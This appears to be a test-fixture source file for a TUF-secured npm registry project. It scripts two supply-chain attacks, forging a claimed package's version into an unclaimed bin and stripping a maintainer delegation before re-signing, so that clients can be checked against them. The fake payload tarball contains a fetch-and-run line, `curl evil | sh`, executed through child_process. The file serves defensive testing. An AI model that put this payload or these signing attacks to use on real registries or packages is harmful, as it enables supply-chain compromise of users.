import { TargetFile, type Snapshot } from '@tufpm/models';
import { addPackageVersion, buildPackageTarball, targetPathFor } from '@tufpm/registry';
import type { NpmWorld } from './npm-world.js';

// Attacks on WHO signs a package ("publishers sign offline", DESIGN.md section 2), played against an
// NpmWorld so that real Yarn and real tufpm-npm meet them over the loopback registry.

const evil = (name: string, version: string): Uint8Array =>
  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });

/**
 * Registry compromise: with every online key (snapshot, timestamp, unclaimed bins) the attacker signs a new
 * version of a CLAIMED package into the unclaimed bin its path hashes to, re-signs snapshot and timestamp
 * and serves the tarball. The package's own role is listed before the bins and is terminating, so a client
 * never looks in the bin: the version is signed by nobody it trusts for that package.
 */
export async function publishClaimedWithOnlineKeys(world: NpmWorld, name: string, version: string): Promise<void> {
  const tarball = evil(name, version);
  const path = targetPathFor(name, version);
  const bin = world.repo.unclaimedBins().getRoleForTarget(path);
  await world.repo.transaction(async (repo) => {
    repo.addTarget(bin, TargetFile.fromData(path, tarball));
    await world.repo.signRole(bin);
    await world.repo.resignSnapshotAndTimestamp();
  });
  await addPackageVersion(world.registryDir, tarball, { durable: false });
}

/**
 * Downgrade from maintainer to registry signing: the registry (an insider holding the offline targets key,
 * or an attacker who took it) drops the package's claim in a new, validly signed `targets`, then signs a
 * new version into the unclaimed bin with the online key. A fresh TUF client accepts that version; only the
 * project's pins remember that the package was signed by its maintainers.
 */
export async function unclaimAndPublishInBin(world: NpmWorld, name: string, version: string): Promise<void> {
  const tarball = evil(name, version);
  const path = targetPathFor(name, version);
  const bin = world.repo.unclaimedBins().getRoleForTarget(path);
  await world.repo.transaction(async (repo) => {
    // The snapshot keeps listing the dropped role (TUF 5.5.5: a client refuses a snapshot that drops one),
    // at its last version: the attacker needs a state every client accepts.
    const listed = repo.edit<Snapshot>('snapshot').meta.get(`${name}.json`);
    if (listed === undefined) throw new Error(`the snapshot does not list ${name}.json`);
    repo.removeDelegation('targets', name);
    await world.repo.signRole('targets');
    repo.addTarget(bin, TargetFile.fromData(path, tarball));
    await world.repo.signRole(bin);
    repo.updateSnapshot();
    repo.edit<Snapshot>('snapshot').meta.set(`${name}.json`, listed);
    await world.repo.signRole('snapshot');
    repo.updateTimestamp();
    await world.repo.signRole('timestamp');
  });
  await addPackageVersion(world.registryDir, tarball, { durable: false });
}
